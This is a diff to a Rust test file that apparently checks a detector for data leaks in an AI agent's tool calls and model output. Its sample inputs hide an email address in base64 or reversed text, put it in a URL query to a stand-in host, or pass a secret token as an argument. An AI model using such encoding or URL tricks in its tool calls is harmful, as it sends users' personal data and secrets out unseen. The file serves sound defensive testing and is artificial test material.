@@ -78,3 +78,34 @@ fn tool_calls_carry_nothing_away() {
         assert_eq!(count(&leaks, Source::ToolCall, "leak.system-prompt", text), 0, "{name}");
     }
 }
+
+/// What a tool call may name as it is written, and may not hide or put into an address.
+#[test]
+fn personal_data_is_what_many_a_call_is_for() {
+    let leaks = leaks(&Material {
+        personal: vec![b"jo.doe@example.org", b"4930901820", b"jo.doe"],
+        values: vec![b"tR4-9mQz.77Lw_kk"],
+        ..Material::default()
+    });
+    for (name, text, n_arguments, n_carried) in [
+        ("as it is written", "{\"to\":\"jo.doe@example.org\"}".to_owned(), 1, 0),
+        ("numbers are the same in ROT13", "{\"tel\":\"+49 30 901820\"}".to_owned(), 1, 0),
+        ("encoded", format!("{{\"to\":\"{}\"}}", base64(b"jo.doe@example.org")), 0, 1),
+        ("reversed", "{\"to\":\"gro.elpmaxe@eod.oj\"}".to_owned(), 0, 1),
+        ("in an address", "{\"url\":\"https://e.example/?q=jo.doe@example.org\"}".to_owned(), 1, 1),
+        ("a secret", "{\"key\":\"tR4-9mQz.77Lw_kk\"}".to_owned(), 0, 1),
+        ("too short", "{\"to\":\"jo.doe\"}".to_owned(), 0, 0),
+        ("somebody else", "{\"to\":\"ann@example.org\"}".to_owned(), 0, 0),
+    ] {
+        let counts =
+            ["exfil.argument", KIND].map(|kind| count(&leaks, Source::ToolCall, kind, &text));
+        assert_eq!(counts, [n_arguments, n_carried], "{name}: {text}");
+    }
+    for (name, text, want) in [
+        ("said", "Write to jo.doe@example.org.", 0),
+        ("in an address", "https://e.example/?q=jo.doe@example.org", 1),
+    ] {
+        let counts = ["exfil.argument", KIND].map(|kind| count(&leaks, Source::Model, kind, text));
+        assert_eq!(counts, [0, want], "{name}");
+    }
+}
